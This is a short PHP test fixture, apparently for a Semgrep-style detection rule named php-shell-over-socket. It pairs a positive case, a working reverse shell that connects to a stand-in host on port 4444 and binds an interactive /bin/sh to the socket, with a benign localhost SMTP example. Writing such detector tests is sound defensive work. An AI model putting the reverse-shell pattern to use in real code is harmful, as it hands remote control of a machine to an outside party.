<?php
function shell() {
    // ruleid: php-shell-over-socket
    $s = fsockopen('example.invalid', 4444);
    $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);
}
function honest() {
    // ok: php-shell-over-socket
    $s = fsockopen('localhost', 25);
    fwrite($s, 'HELO');
}
